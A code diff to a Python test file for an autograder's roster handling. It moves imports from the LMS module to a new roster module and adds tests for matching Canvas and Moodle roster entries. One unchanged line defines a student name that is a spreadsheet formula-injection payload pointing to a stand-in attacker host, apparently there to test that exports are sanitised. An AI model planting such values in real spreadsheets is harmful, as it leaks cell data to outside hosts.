@@ -13,6 +13,7 @@ import pytest
 from lms_import import canvas_import, moodle_import
 
 from autograder import lms
+from autograder.roster import RosterError, match, parse_roster, read_roster
 
 ROOT = Path(__file__).resolve().parent.parent
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
@@ -113,7 +114,7 @@ CANVAS_EXPORT = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: nu
 
 
 def test_a_canvas_export_is_a_roster_and_its_assignment_is_updated(tmp_path):
-    roster = lms.parse_roster(CANVAS_EXPORT.lstrip("\ufeff"))
+    roster = parse_roster(CANVAS_EXPORT.lstrip("\ufeff"))
     assert roster.kind == "canvas"
     assert [e.sis_login_id for e in roster.entries] == ["alice", "bob", "dave"]
     out = _graded_class(tmp_path)
@@ -156,19 +157,21 @@ def test_a_moodle_export_is_a_roster(tmp_path):
 
 
 def test_matching_never_drops_a_submission():
-    roster = lms.parse_roster("directory,student_id,name,section\nAlice,1,A,\n,2,B,\n,alice2,C,\n")
-    m = lms.match(roster, ["alice", "2", "ALICE", "zed"])
+    roster = parse_roster("directory,student_id,name,section\nAlice,1,A,\n,2,B,\n,alice2,C,\n")
+    m = match(roster, ["alice", "2", "ALICE", "zed"])
     assert set(m.matched) == {"2", "ALICE"}  # case does not matter; sorted order decides ties
     assert dict(m.unmatched) == {"alice": "its roster entry is already matched by ALICE", "zed": "not in the roster"}
-    ambiguous = lms.parse_roster("directory,student_id,name,section,email\n,x,A,,a@u\n,y,B,,x\n")
-    assert lms.match(ambiguous, ["x"]).unmatched[0][1].startswith("matches several roster entries")
+    ambiguous = parse_roster("directory,student_id,name,section,email\n,x,A,,a@u\n,y,B,,x\n")
+    assert match(ambiguous, ["x"]).unmatched[0][1].startswith("matches several roster entries")
+    assert [e.name for e in ambiguous.find(" X ")] == ["A", "B"]  # what issue 20's file-name mapping asks
+    assert [e.name for e in parse_roster(CANVAS_EXPORT.lstrip("\ufeff")).find("S1002")] == ["Bob, Robert"]
 
 
 def test_an_unknown_roster_is_refused_before_grading(tmp_path):
     roster = tmp_path / "roster.csv"
     roster.write_text("who,what\nme,that\n")
-    with pytest.raises(lms.RosterError):
-        lms.read_roster(roster)
+    with pytest.raises(RosterError):
+        read_roster(roster)
     (tmp_path / "class" / "alice").mkdir(parents=True)
     env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
     proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(tmp_path / "class"), "--out",
